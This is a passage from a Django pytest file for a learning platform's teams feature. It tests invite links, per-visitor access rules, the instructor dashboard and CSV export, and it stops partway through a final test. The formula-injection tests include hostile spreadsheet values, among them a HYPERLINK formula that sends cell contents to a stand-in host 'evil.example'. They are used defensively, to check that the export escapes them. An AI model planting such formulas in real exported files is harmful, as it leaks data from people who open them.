"""Teams: invite links, the instructor's dashboard and member page, CSV export, who sees what.

Every teams URL is checked for six kinds of visitor; outsiders get a 404 (never a 403) so that
team slugs and member names do not leak. The dashboard and export must cost the same number of
queries for 3 members as for 60, and for 2 lessons as for 7.
"""

import csv
import io
import re
from datetime import timedelta
from urllib.parse import quote

import pytest
from django.contrib.auth.models import Group
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from lessons.models import Course, Lesson, Section, SectionProgress
from lessons.read_counts import recount
from quizzes.models import Attempt, Quiz
from teams import views as teams_views
from teams.csvsafe import csv_text, safe_cell
from teams.instructors import GROUP_NAME
from teams.models import Membership, Team
from teams.scores import MeanScore, QuizScore, mean_score
from teams.services import membership_join, team_create

from .test_quiz_attempts import form_values

pytestmark = pytest.mark.django_db

PASSWORD = "correct-horse-9"


# --- fixtures ---


def make_instructor(django_user_model, username: str):
    user = django_user_model.objects.create_user(username, f"{username}@example.com", PASSWORD)
    user.is_staff = True
    user.save()
    user.groups.add(Group.objects.get(name=GROUP_NAME))
    return user


@pytest.fixture
def instructor(django_user_model):
    return make_instructor(django_user_model, "ines")


@pytest.fixture
def other_instructor(django_user_model):
    return make_instructor(django_user_model, "otto")


@pytest.fixture
def team(mini_course, instructor, learner):
    team = team_create(
        name="Platform team", slug="platform", courses=[mini_course], creator=instructor
    )
    membership_join(team=team, user=learner)
    return team


@pytest.fixture
def other_team(mini_course, other_instructor, other_learner):
    team = team_create(
        name="Payments squad", slug="payments", courses=[mini_course], creator=other_instructor
    )
    membership_join(team=team, user=other_learner)
    return team


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.com", PASSWORD)


def client_for(user) -> Client:
    client = Client()
    if user is not None:
        client.force_login(user)
    return client


def read(user, lesson_slug: str, *section_slugs: str, when=None) -> None:
    for slug in section_slugs:
        section = Section.objects.get(lesson__slug=lesson_slug, slug=slug)
        SectionProgress.objects.create(user=user, section=section, read_at=when or timezone.now())


def finish_attempt(user, quiz_slug: str, score: int, total: int, when=None) -> Attempt:
    """A finished attempt, started five minutes before `when` (started_at is auto_now_add)."""
    attempt = Attempt.objects.create(user=user, quiz=Quiz.objects.get(slug=quiz_slug))
    finished = when or timezone.now()
    Attempt.objects.filter(pk=attempt.pk).update(
        started_at=finished - timedelta(minutes=5), finished_at=finished, score=score, total=total
    )
    attempt.refresh_from_db()
    return attempt


# --- who sees what: every URL × six kinds of visitor ---

VISITORS = [
    "anonymous",
    "learner_member",
    "learner_other",
    "instructor_other",
    "instructor",
    "superuser",
]


@pytest.fixture
def people(team, other_team, learner, other_learner, instructor, other_instructor, superuser):
    return {
        "anonymous": None,
        "learner_member": learner,
        "learner_other": other_learner,
        "instructor_other": other_instructor,
        "instructor": instructor,
        "superuser": superuser,
    }


MANAGER_PAGES = {
    "dashboard": lambda team: reverse("team-dashboard", args=[team.slug]),
    "member": lambda team: reverse("team-member", args=[team.slug, "ada"]),
    "export": lambda team: reverse("team-export", args=[team.slug]),
}


@pytest.mark.parametrize("page", sorted(MANAGER_PAGES))
@pytest.mark.parametrize("who", VISITORS)
def test_manager_pages_are_for_the_teams_instructors_and_superusers(people, team, page, who):
    url = MANAGER_PAGES[page](team)
    response = client_for(people[who]).get(url)
    if who == "anonymous":
        assert response.status_code == 302
        assert response["Location"] == f"{reverse('login')}?next={url}"
    elif who in {"instructor", "superuser"}:
        assert response.status_code == 200
    else:
        assert response.status_code == 404
        html = response.content.decode()
        assert "Platform team" not in html
        assert team.invite_token not in html and "member-cell" not in html


@pytest.mark.parametrize("page", sorted(MANAGER_PAGES))
@pytest.mark.parametrize("who", VISITORS)
def test_a_missing_team_looks_exactly_like_a_forbidden_one(people, page, who):
    """Nobody can tell from the response whether a slug exists."""

    class Missing:
        slug = "no-such-team"

    client = client_for(people[who])
    missing = client.get(MANAGER_PAGES[page](Missing))
    if who == "superuser":
        assert missing.status_code == 404
        return
    hidden = Team.objects.get(slug="payments" if who == "instructor" else "platform")
    existing = client.get(MANAGER_PAGES[page](hidden))
    assert existing.status_code == missing.status_code
    assert existing.status_code == (302 if who == "anonymous" else 404)
    if existing.status_code == 404:
        assert without_csrf(existing.content) == without_csrf(missing.content)


def without_csrf(html: bytes) -> bytes:
    return re.sub(rb'(csrfmiddlewaretoken" value="|x-csrftoken": ")[^"]+', rb"\1", html)


@pytest.mark.parametrize("who", VISITORS)
def test_member_page_of_someone_outside_the_team_is_404_even_for_its_instructor(people, team, who):
    url = reverse("team-member", args=[team.slug, "bob"])  # bob is in the other team
    response = client_for(people[who]).get(url)
    assert response.status_code == (302 if who == "anonymous" else 404)


@pytest.mark.parametrize("who", VISITORS)
def test_regenerating_the_invite_link_is_for_the_teams_instructors_only(people, team, who):
    old = team.invite_token
    url = reverse("team-regenerate-invite", args=[team.slug])
    response = client_for(people[who]).post(url)
    team.refresh_from_db()
    if who in {"instructor", "superuser"}:
        assert response.status_code == 302
        assert response["Location"] == team.get_absolute_url()
        assert team.invite_token != old
    else:
        assert response.status_code == (302 if who == "anonymous" else 404)
        assert team.invite_token == old


@pytest.mark.parametrize("who", VISITORS)
def test_removing_a_learner_is_for_the_teams_instructors_only(people, team, learner, who):
    url = reverse("team-remove-member", args=[team.slug, learner.username])
    response = client_for(people[who]).post(url)
    removed = not Membership.objects.filter(team=team, user=learner).exists()
    if who in {"instructor", "superuser"}:
        assert response.status_code == 302 and response["Location"] == team.get_absolute_url()
        assert removed
    else:
        assert response.status_code == (302 if who == "anonymous" else 404)
        assert not removed


@pytest.mark.parametrize("who", VISITORS)
def test_regenerate_refuses_get(people, team, who):
    response = client_for(people[who]).get(reverse("team-regenerate-invite", args=[team.slug]))
    assert response.status_code in ({302} if who == "anonymous" else {404, 405})
    if who in {"instructor", "superuser"}:
        assert response.status_code == 405


@pytest.mark.parametrize("who", VISITORS)
def test_invite_link_page(people, team, who):
    url = team.get_invite_url()
    response = client_for(people[who]).get(url)
    assert response.status_code == 200
    html = response.content.decode()
    assert "Platform team" in html
    if who == "anonymous":
        # The team and its courses, then sign-up first and log-in second, each coming back.
        page = html.split("<h1>", 1)[1]  # below the header (which has its own log-in link)
        assert team.courses.get().title in page
        back = quote(url)
        signup = page.index(f'href="{reverse("signup")}?next={back}"')
        login = page.index(f'href="{reverse("login")}?next={back}"')
        assert signup < login and "Join the team as" not in page
    elif who in {"learner_member", "instructor"}:
        assert "already in this team" in html
    else:
        assert 'type="submit" class="button">Join the team' in html
    assert Membership.objects.filter(team=team).count() == 2  # opening the link joins no one


@pytest.mark.parametrize("who", VISITORS)
def test_invalid_or_revoked_invite_link_is_404_for_everyone(people, team, who):
    revoked = team.get_invite_url()
    client_for(people["instructor"]).post(reverse("team-regenerate-invite", args=[team.slug]))
    for url in [revoked, reverse("team-join", args=["not-a-token"])]:
        for method in ("get", "post"):
            response = getattr(client_for(people[who]), method)(url)
            assert response.status_code == 404
            assert "Platform team" not in response.content.decode()
    assert Membership.objects.filter(team=team).count() == 2


@pytest.mark.parametrize("who", VISITORS)
def test_team_list_shows_only_your_own_teams(people, who):
    response = client_for(people[who]).get(reverse("team-list"))
    if who == "anonymous":
        assert response.status_code == 302
        return
    html = response.content.decode()
    assert response.status_code == 200
    sees = {
        "learner_member": {"Platform team"},
        "learner_other": {"Payments squad"},
        "instructor_other": {"Payments squad"},
        "instructor": {"Platform team"},
        "superuser": {"Platform team", "Payments squad"},
    }[who]
    for name in ["Platform team", "Payments squad"]:
        assert (name in html) == (name in sees), name
    # Only those who run a team get a link to its dashboard.
    assert ('href="/teams/platform/"' in html) == (who in {"instructor", "superuser"})


@pytest.mark.parametrize("who", VISITORS)
def test_new_team_page_is_for_instructors(people, who):
    response = client_for(people[who]).get(reverse("team-new"))
    expected = {"anonymous": 302, "instructor": 200, "instructor_other": 200, "superuser": 200}
    assert response.status_code == expected.get(who, 403)


@pytest.mark.parametrize("who", VISITORS)
def test_home_shows_only_your_teams(people, who):
    html = client_for(people[who]).get("/").content.decode()
    in_platform = who in {"learner_member", "instructor"}
    in_payments = who in {"learner_other", "instructor_other"}
    assert ("Platform team" in html) == in_platform
    assert ("Payments squad" in html) == in_payments


# --- joining ---


def test_learner_joins_with_a_post_and_sees_the_team_and_its_courses_on_home(team, other_learner):
    client = client_for(other_learner)
    response = client.post(team.get_invite_url())
    assert response.status_code == 302 and response["Location"] == reverse("home")
    membership = Membership.objects.get(team=team, user=other_learner)
    assert membership.role == Membership.Role.LEARNER
    home = client.get("/").content.decode()
    assert "Your teams" in home and "Platform team" in home
    section = home.split('id="teams-title"')[1].split("</section>")[0]
    assert "A small mesh course" in section
    assert "/teams/platform/" not in section  # a learner gets no dashboard link


def test_joining_twice_is_a_noop_and_never_demotes_an_instructor(team, learner, instructor):
    client_for(learner).post(team.get_invite_url())
    client_for(instructor).post(team.get_invite_url())
    assert Membership.objects.filter(team=team).count() == 2
    assert Membership.objects.get(team=team, user=instructor).role == "instructor"


def test_join_needs_a_csrf_token(team, other_learner):
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(other_learner)
    assert strict.post(team.get_invite_url()).status_code == 403
    assert not Membership.objects.filter(user=other_learner, team=team).exists()


def test_regenerate_needs_a_csrf_token(team, instructor):
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(instructor)
    old = team.invite_token
    assert strict.post(reverse("team-regenerate-invite", args=[team.slug])).status_code == 403
    team.refresh_from_db()
    assert team.invite_token == old


def test_visitor_sees_the_team_and_can_sign_up_then_return(team, client):
    url = team.get_invite_url()
    invite_page = client.get(url)
    assert invite_page.status_code == 200 and "Join Platform team" in invite_page.content.decode()
    assert f'href="{reverse("signup")}?next={url}"' in invite_page.content.decode()
    assert client.post(url)["Location"] == f"{reverse('login')}?next={url}"  # joins no one
    response = client.post(
        f"{reverse('signup')}?next={url}",
        {
            "username": "newbie",
            "password1": PASSWORD + "x",
            "password2": PASSWORD + "x",
            "next": url,
        },
    )
    assert response.status_code == 302 and response["Location"] == url
    assert "Join the team" in client.get(url).content.decode()
    client.post(url)
    assert Membership.objects.filter(team=team, user__username="newbie").exists()


def test_regenerated_link_works_and_the_old_one_does_not(team, instructor, other_learner):
    old_url = team.get_invite_url()
    client_for(instructor).post(reverse("team-regenerate-invite", args=[team.slug]))
    team.refresh_from_db()
    assert team.get_invite_url() != old_url
    learner_client = client_for(other_learner)
    assert learner_client.post(old_url).status_code == 404
    assert learner_client.post(team.get_invite_url()).status_code == 302
    assert Membership.objects.filter(team=team, user=other_learner).exists()


def test_invite_token_is_long_and_random(mini_course, instructor):
    a = team_create(name="A", slug="a", courses=[], creator=instructor)
    b = team_create(name="B", slug="b", courses=[], creator=instructor)
    assert a.invite_token != b.invite_token
    assert len(a.invite_token) >= 32


# --- creating a team ---


def test_instructor_creates_a_team_and_becomes_its_instructor(mini_course, instructor):
    client = client_for(instructor)
    response = client.post(
        reverse("team-new"), {"name": "SRE guild", "slug": "", "courses": [mini_course.pk]}
    )
    team = Team.objects.get(name="SRE guild")
    assert response.status_code == 302 and response["Location"] == "/teams/sre-guild/"
    assert list(team.courses.all()) == [mini_course]
    assert Membership.objects.get(team=team, user=instructor).role == "instructor"
    dashboard = client.get(response["Location"]).content.decode()
    assert f"http://testserver/teams/join/{team.invite_token}/" in dashboard


@pytest.mark.parametrize(
    ("slug", "message"),
    [
        ("new", "reserved"),
        ("join", "reserved"),
        ("Not A Slug", "slug"),
        ("platform", "already exists"),
    ],
)
def test_new_team_form_says_what_to_fix(team, instructor, slug, message):
    response = client_for(instructor).post(reverse("team-new"), {"name": "X", "slug": slug})
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Team.objects.filter(name="X").exists()


def test_derived_slug_avoids_taken_and_reserved_slugs(team, instructor):
    client = client_for(instructor)
    client.post(reverse("team-new"), {"name": "Platform"})
    client.post(reverse("team-new"), {"name": "New"})
    assert Team.objects.filter(slug="platform-2").exists()
    assert Team.objects.filter(slug="new-2").exists()


def _slug_taken_meanwhile(monkeypatch, slug: str):
    """Another request creates a team with `slug` after this one's form checked it."""
    real = teams_views.team_create

    def racing(**kwargs):
        if not Team.objects.filter(slug=slug).exists():
            Team.objects.create(name="The other request's team", slug=slug)
        return real(**kwargs)

    monkeypatch.setattr(teams_views, "team_create", racing)


def test_a_typed_slug_taken_meanwhile_is_a_field_error_not_a_server_error(
    mini_course, instructor, monkeypatch
):
    _slug_taken_meanwhile(monkeypatch, "sre")
    response = client_for(instructor).post(
        reverse("team-new"), {"name": "SRE guild", "slug": "sre", "courses": [mini_course.pk]}
    )
    assert response.status_code == 200
    assert "was just created; choose another" in response.content.decode()
    assert Team.objects.filter(slug="sre").count() == 1
    assert not Team.objects.filter(name="SRE guild").exists()
    assert not Membership.objects.filter(user=instructor).exists()


def test_a_slug_made_from_the_name_and_taken_meanwhile_is_made_again(
    mini_course, instructor, monkeypatch
):
    _slug_taken_meanwhile(monkeypatch, "sre-guild")
    response = client_for(instructor).post(
        reverse("team-new"), {"name": "SRE guild", "slug": "", "courses": [mini_course.pk]}
    )
    team = Team.objects.get(name="SRE guild")
    assert response.status_code == 302 and response["Location"] == "/teams/sre-guild-2/"
    assert Membership.objects.get(team=team, user=instructor).role == "instructor"


def test_learner_cannot_create_a_team(learner):
    assert client_for(learner).post(reverse("team-new"), {"name": "Mine"}).status_code == 403
    assert not Team.objects.exists()


def test_admin_team_created_by_an_instructor_is_theirs(
    mini_course, instructor, other_instructor, team
):
    client = client_for(other_instructor)
    response = client.post(
        reverse("admin:teams_team_add"),
        {
            "name": "Admin-made",
            "slug": "admin-made",
            "courses": [mini_course.pk],
            "memberships-TOTAL_FORMS": "0",
            "memberships-INITIAL_FORMS": "0",
            "memberships-MIN_NUM_FORMS": "0",
            "memberships-MAX_NUM_FORMS": "1000",
        },
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    made = Team.objects.get(slug="admin-made")
    assert Membership.objects.get(team=made, user=other_instructor).role == "instructor"
    assert client.get(made.get_absolute_url()).status_code == 200
    # The admin lists only the teams an instructor runs; another team's page is not found.
    changelist = client.get(reverse("admin:teams_team_changelist")).content.decode()
    assert "Admin-made" in changelist and "Platform team" not in changelist
    other = client.get(reverse("admin:teams_team_change", args=[team.pk]))
    assert other.status_code == 302  # the admin's "does not exist" redirect, same as a bad id
    assert team.invite_token not in other.content.decode()


def test_admin_action_regenerates_invite_links(team, instructor):
    old = team.invite_token
    client_for(instructor).post(
        reverse("admin:teams_team_changelist"),
        {"action": "regenerate_invites", "_selected_action": [team.pk]},
    )
    team.refresh_from_db()
    assert team.invite_token != old


# --- the dashboard: the team's summary and a page of members; a course's own page ---


def dashboard(client, team, **params):
    return client.get(reverse("team-dashboard", args=[team.slug]), params)


def course_page(client, team, course_slug="mini-mesh", **params):
    return client.get(reverse("team-course", args=[team.slug, course_slug]), params)


def matrix_row(html: str, username: str) -> str:
    match = re.search(
        r'<tr class="[^"]*">\s*<th scope="row" class="member-cell">\s*'
        rf'<a href="[^"]*">{re.escape(username)}</a>.*?</tr>',
        html,
        re.S,
    )
    assert match, f"no row for {username}"
    return match.group(0)


@pytest.fixture
def carol(team, django_user_model):
    user = django_user_model.objects.create_user("carol", password=PASSWORD)
    membership_join(team=team, user=user)
    return user


def test_dashboard_shows_the_summary_and_each_members_figures(team, learner, carol, instructor):
    earlier = timezone.now() - timedelta(days=2)
    read(learner, "first", "intro", "routing", "wrap-up", when=earlier)  # first lesson done
    read(learner, "second", "only", when=earlier)  # second lesson done too
    read(carol, "first", "intro", when=earlier)  # carol: first lesson in progress
    finish_attempt(learner, "mini-final", 1, 1, when=earlier - timedelta(hours=1))
    finish_attempt(learner, "first-check", 0, 1, when=earlier + timedelta(hours=1))
    latest = finish_attempt(learner, "first-check", 1, 1, when=earlier + timedelta(hours=2))

    html = dashboard(client_for(instructor), team).content.decode()
    ada = matrix_row(html, "ada")
    assert '<span class="cell-figure">100%</span>' in ada  # completion
    assert latest.finished_at.strftime("%-d %b %Y, %H:%M") in ada  # last activity
    assert '100% <span class="meta">2 of 2 taken</span>' in ada  # quiz score
    carol_row = matrix_row(html, "carol")
    assert '<span class="cell-figure">25%</span>' in carol_row  # 1 of 4 sections
    assert '<span class="muted">not taken</span> <span class="meta">0 of 2</span>' in carol_row
    assert "0%" not in carol_row.split("quiz-score")[1].split("</td>")[0]
    # The summary: the team read 5 of 8 sections; lesson 1 completed by one learner of two.
    team_percent = f"{round(100 * 5 / 8)}%"  # rounded as lessons.progress rounds
    assert f'<span class="team-completion-figure">{team_percent}</span>' in html
    assert "First lesson — completed by 1 of 2 (50%)" in html
    assert "Mini final (quiz) — taken by 1, passed by 1 of 2 (50%)" in html
    # The instructor is listed apart, after the learners.
    assert _order(html) == ["ada", "carol", "ines"]
    assert 'href="/teams/platform/progress/mini-mesh/"' in html


def test_course_page_shows_members_by_lesson_and_quiz(team, learner, carol, instructor):
    read(learner, "first", "intro", "routing", "wrap-up")
    read(learner, "second", "only")
    read(carol, "first", "intro")
    finish_attempt(learner, "first-check", 0, 1)
    finish_attempt(learner, "first-check", 1, 1)
    html = course_page(client_for(instructor), team).content.decode()
    ada = matrix_row(html, "ada")
    assert ada.count("cell-completed") == 2
    assert '100% <span class="meta">(2)</span>' in ada  # first-check: best of two attempts
    assert '<td class="num"><span class="muted">not taken</span></td>' in ada  # mini-final
    carol_row = matrix_row(html, "carol")
    assert "cell-in-progress" in carol_row and "1/3" in carol_row
    footer = html.split("<tfoot>")[1]
    assert re.findall(r'<td class="num">([^<]+)</td>', footer)[:3] == ["62%", "50%", "50%"]
    assert course_page(client_for(instructor), team, "no-such-course").status_code == 404


def test_adding_a_section_reopens_a_lesson_on_the_course_page_and_removing_one_closes_it(
    team, learner, instructor
):
    read(learner, "first", "intro", "routing", "wrap-up")
    client = client_for(instructor)
    assert (
        matrix_row(course_page(client, team).content.decode(), "ada").count("cell-completed") == 1
    )
    lesson = Lesson.objects.get(slug="first")
    added = Section.objects.create(lesson=lesson, slug="new-part", order=99, title="New part")
    row = matrix_row(course_page(client, team).content.decode(), "ada")
    assert "cell-completed" not in row and "3/4" in row
    added.delete()
    Section.objects.get(slug="wrap-up").delete()  # its read mark goes with it
    row = matrix_row(course_page(client, team).content.decode(), "ada")
    assert row.count("cell-completed") == 1


def test_quiz_percentages_round_down_as_the_quiz_pages_do(team, learner, instructor):
    finish_attempt(learner, "first-check", 2, 3)
    finish_attempt(learner, "first-check", 1, 3)
    expected = Attempt.objects.filter(user=learner).order_by("-score").first().percent
    assert expected == 66  # 2 of 3, never shown as 67
    client = client_for(instructor)
    row = matrix_row(course_page(client, team).content.decode(), "ada")
    assert '66% <span class="meta">(2)</span>' in row
    # The mean over the quizzes taken: one of two, so 66, not 33.
    row = matrix_row(dashboard(client, team).content.decode(), "ada")
    assert '66% <span class="meta">1 of 2 taken</span>' in row


def test_quiz_score_is_the_mean_over_quizzes_taken_never_zero_for_one_not_taken(
    team, learner, carol, instructor
):
    finish_attempt(learner, "first-check", 1, 2)  # 50 %; mini-final not taken
    finish_attempt(carol, "first-check", 0, 2)  # a real 0 %
    finish_attempt(carol, "mini-final", 1, 1)  # 100 %: carol's mean is 50
    client = client_for(instructor)
    html = dashboard(client, team).content.decode()
    assert '50% <span class="meta">1 of 2 taken</span>' in matrix_row(html, "ada")
    assert '50% <span class="meta">2 of 2 taken</span>' in matrix_row(html, "carol")
    assert "not taken" in matrix_row(html, "ines")
    header, *rows = parse_csv(export(client, team))
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert by_name["ada"]["Quiz score %"] == "50" and by_name["ada"]["Quizzes taken"] == "1 of 2"
    assert by_name["ada"]["Mini final: best %"] == "not taken"
    assert by_name["carol"]["Check the first lesson: best %"] == "0"  # taken: a real 0
    assert by_name["ines"]["Quiz score %"] == "not taken"
    member = client.get("/teams/platform/members/ada/").content.decode()
    assert "quiz score 50%" in member and "1 of 2 taken" in member


def test_mean_score_counts_only_quizzes_taken():
    taken = [QuizScore(1, 80, 2), QuizScore(2, None, 0), QuizScore(3, 0, 1), QuizScore(4, 55, 1)]
    assert mean_score(taken, 4) == MeanScore(45, 3, 4)  # (80 + 0 + 55) // 3
    assert mean_score([QuizScore(1, None, 0)], 1).label == "not taken"
    assert mean_score([], 0) == MeanScore(None, 0, 0)
    assert mean_score([QuizScore(1, 67, 1)], 3).label == "67 % (1 of 3 taken)"


def test_draft_lessons_and_unassigned_courses_are_not_columns(team, instructor):
    Lesson.objects.filter(slug="second").update(published=False)
    Course.objects.create(slug="other", title="Unassigned course", published=True)
    client = client_for(instructor)
    html = dashboard(client, team).content.decode() + course_page(client, team).content.decode()
    assert "First lesson" in html
    assert "Second lesson" not in html
    assert "Unassigned course" not in html
    assert course_page(client, team, "other").status_code == 404


def _order(html: str) -> list[str]:
    body = html.split("<tbody>")[-1].split("</tbody>")[0]
    return re.findall(r'class="member-cell">\s*<a href="[^"]*">([^<]+)</a>', body)


@pytest.fixture
def sortable_team(team, learner, django_user_model):
    now = timezone.now()
    zed = django_user_model.objects.create_user("zed", password=PASSWORD)
    cy = django_user_model.objects.create_user("Cy", password=PASSWORD, first_name="Cyril")
    for user in (zed, cy):
        membership_join(team=team, user=user)
    read(learner, "first", "intro", when=now - timedelta(days=3))  # ada: 1 section, oldest
    read(zed, "first", "intro", "routing", when=now - timedelta(days=1))  # zed: 2, newest
    finish_attempt(learner, "mini-final", 1, 1)  # ada: attempted just now
    finish_attempt(zed, "first-check", 0, 1, when=now - timedelta(days=1))
    return team


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("name", ["ada", "Cy", "zed", "ines"]),
        ("completion", ["zed", "ada", "Cy", "ines"]),
        ("nonsense", ["ada", "Cy", "zed", "ines"]),
    ],
)
def test_dashboard_sorts_by_query_parameter(sortable_team, instructor, sort, expected):
    html = dashboard(client_for(instructor), sortable_team, sort=sort).content.decode()
    assert _order(html) == expected
    html = course_page(client_for(instructor), sortable_team, sort=sort).content.decode()
    assert _order(html) == expected


def test_dashboard_sorts_by_last_activity_newest_first(sortable_team, instructor):
    html = dashboard(client_for(instructor), sortable_team, sort="activity").content.decode()
    # ada's attempt just now is newer than zed's read a day ago; Cy never did anything.
    assert _order(html) == ["ada", "zed", "Cy", "ines"]


@pytest.mark.parametrize(
    ("q", "expected"),
    [("z", ["zed"]), ("cyril", ["Cy"]), ("IN", ["ines"]), ("%", []), ("_", []), ("a" * 500, [])],
)
def test_dashboard_filters_members_by_name(sortable_team, instructor, q, expected):
    response = dashboard(client_for(instructor), sortable_team, q=q)
    assert response.status_code == 200
    assert _order(response.content.decode()) == expected


def test_dashboard_pages_through_members(team, instructor, django_user_model):
    add_members(team, django_user_model, 120)  # 122 members: 121 learners and ines
    client = client_for(instructor)
    seen = []
    for number in (1, 2, 3):
        html = dashboard(client, team, sort="completion", page=number).content.decode()
        seen += _order(html)
        assert f"Page {number} of 3" in html
    assert len(seen) == 122 and len(set(seen)) == 122 and seen[-1] == "ines"
    read_counts = dict(
        Membership.objects.filter(team=team).values_list("user__username", "user__id")
    )
    # member{n} read 1 + id % 4 sections: completion never rises down the list.
    reads = [SectionProgress.objects.filter(user_id=read_counts[name]).count() for name in seen]
    assert reads[:-1] == sorted(reads[:-1], reverse=True)
    assert "Page 3 of 3" in dashboard(client, team, page=999).content.decode()
    assert "Page 1 of 3" in dashboard(client, team, page="x").content.decode()


def test_sort_links_work_without_javascript_and_htmx_gets_only_the_table(team, instructor):
    client = client_for(instructor)
    html = dashboard(client, team).content.decode()
    for key in ["name", "completion", "activity"]:
        assert f'href="?sort={key}" hx-get="?sort={key}"' in html
    assert 'aria-sort="ascending"' in html
    partial = client.get(
        reverse("team-dashboard", args=[team.slug]),
        {"sort": "completion"},
        HTTP_HX_REQUEST="true",
    )
    body = partial.content.decode()
    assert "<html" not in body and body.lstrip().startswith('<div id="member-table"')
    assert 'aria-sort="descending"' in body
    assert "HX-Request" in partial["Vary"]


def test_member_detail_lists_sections_read_and_every_attempt(team, learner, instructor):
    read(learner, "first", "intro")
    finish_attempt(learner, "first-check", 1, 2)
    Attempt.objects.create(user=learner, quiz=Quiz.objects.get(slug="mini-final"))  # still open
    html = dashboard(client_for(instructor), team).content.decode()
    assert 'href="/teams/platform/members/ada/"' in html
    page = client_for(instructor).get("/teams/platform/members/ada/").content.decode()
    assert 'Introduction — <span class="read-tick"' in page
    assert 'Routing — <span class="muted">not read</span>' in page
    assert "1/2 (50%)" in page
    assert "in progress" in page


def test_attempts_of_other_courses_and_other_teams_do_not_count(
    team, learner, instructor, other_team
):
    other = Course.objects.create(slug="elsewhere", title="Elsewhere", published=True)
    quiz = Quiz.objects.create(slug="elsewhere-quiz", title="Elsewhere quiz", course=other)
    Attempt.objects.create(user=learner, quiz=quiz, finished_at=timezone.now(), score=1, total=1)
    html = dashboard(client_for(instructor), team).content.decode()
    assert "Elsewhere quiz" not in html
    assert "never" in matrix_row(html, "ada")
    assert "bob" not in _order(html)


# --- CSV export ---


def export(client, team, **params):
    response = client.get(reverse("team-export", args=[team.slug]), params)
    assert response.status_code == 200
    return response


def parse_csv(response) -> list[list[str]]:
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())  # UTF-8 BOM, for Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8")[1:])))


def test_export_has_a_header_and_one_row_per_member(team, learner, instructor):
    read(learner, "first", "intro", "routing", "wrap-up")
    finish_attempt(learner, "first-check", 1, 1)
    response = export(client_for(instructor), team)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="platform-progress.csv"'
    rows = parse_csv(response)
    header, *members = rows
    assert header[:8] == [
        "Username",
        "Name",
        "Role",
        "Joined",
        "Completion %",
        "Sections read",
        "Sections total",
        "Last activity",
    ]
    assert header[-24:-21] == ["Quiz score %", "Quizzes taken", "Quiz attempts"]
    assert header[-15:-12] == ["Assignments done", "Assignments due", "Assignments overdue"]
    installation = "Installation, upgrades and configuration"
    assert header[-12:-9] == [f"{installation}: {what}" for what in ("right", "answered", "%")]
    assert "A small mesh course / First lesson" in header
    assert "Check the first lesson: best %" in header
    assert [row[0] for row in members] == ["ada", "ines"]
    ada = dict(zip(header, members[0], strict=True))
    assert ada["Role"] == "Learner"
    assert ada["Completion %"] == "75"
    assert ada["Sections read"] == "3" and ada["Sections total"] == "4"
    assert ada["A small mesh course / First lesson"] == "Completed"
    assert ada["A small mesh course / Second lesson"] == "Not started"
    assert ada["Check the first lesson: best %"] == "100"
    assert ada["Check the first lesson: attempts"] == "1"
    assert ada["Mini final: best %"] == "not taken" and ada["Mini final: attempts"] == "0"
    assert ada["Quiz score %"] == "100"  # the mean over the one quiz taken
    assert ada["Last activity"].startswith(str(timezone.now().year))


def test_export_follows_the_dashboard_sort(sortable_team, instructor):
    rows = parse_csv(export(client_for(instructor), sortable_team, sort="completion"))
    assert [row[0] for row in rows[1:]] == ["zed", "ada", "Cy", "ines"]
    rows = parse_csv(export(client_for(instructor), sortable_team, q="cyril"))
    assert [row[0] for row in rows[1:]] == ["Cy"]


@pytest.mark.parametrize(
    "username",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "@SUM(1+1)",
        "+1-1",
        "-2+3",
        "\tTAB",
        "\rCR",
    ],
)
def test_export_is_safe_against_formula_injection(team, instructor, django_user_model, username):
    user = django_user_model.objects.create_user(username, password=PASSWORD)
    user.first_name = "=1+2"
    user.save()
    membership_join(team=team, user=user)
    rows = parse_csv(export(client_for(instructor), team))
    row = next(r for r in rows if r[0].endswith(username.lstrip("\t\r")) or r[0] == "'" + username)
    assert row[0] == "'" + username
    assert row[1] == "'=1+2"
    for cells in rows:
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cells


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+44 20", "'+44 20"),
        ("-x", "'-x"),
        ("@me", "'@me"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, 42),
        (0, 0),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_text_quotes_newlines_and_adds_a_bom():
    text = csv_text([["name", "note"], ["=x", "two\nlines"]])
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text[1:]))) == [["name", "note"], ["'=x", "two\nlines"]]


def test_team_without_courses_has_an_empty_but_working_dashboard_and_export(instructor, learner):
    team = team_create(name="Fresh", slug="fresh", courses=[], creator=instructor)
    membership_join(team=team, user=learner)
    client = client_for(instructor)
    html = dashboard(client, team).content.decode()
    assert "no course assigned yet" in html and _order(html) == ["ada", "ines"]
    header, *rows = parse_csv(export(client, team))
    assert len(header) == 26 and [row[0] for row in rows] == [
        "ada",
        "ines",
    ]  # 11 + 3 assignment columns + 4 domains × 3


def test_export_keeps_non_ascii_names(team, instructor, django_user_model):
    user = django_user_model.objects.create_user("zoë", password=PASSWORD)
    user.first_name, user.last_name = "Zoë", "Ñúñez"
    user.save()
    membership_join(team=team, user=user)
    rows = parse_csv(export(client_for(instructor), team))
    assert next(r for r in rows if r[0] == "zoë")[:2] == ["zoë", "Zoë Ñúñez"]


def test_an_extra_column_groups_cells_are_made_safe_unless_it_says_it_did(
    team, instructor, monkeypatch
):
    """The export checks a group's cells for formulas unless the group sets made_safe: a
    feature adding columns is safe without knowing teams/export.py's shortcut."""
    from teams import export as export_module

    class Plain:
        header = ["Note"]

        def cells(self, members):
            return {m.id: ["=HYPERLINK(1)"] for m in members}

    class Trusted(Plain):
        header = ["Trusted"]
        made_safe = True

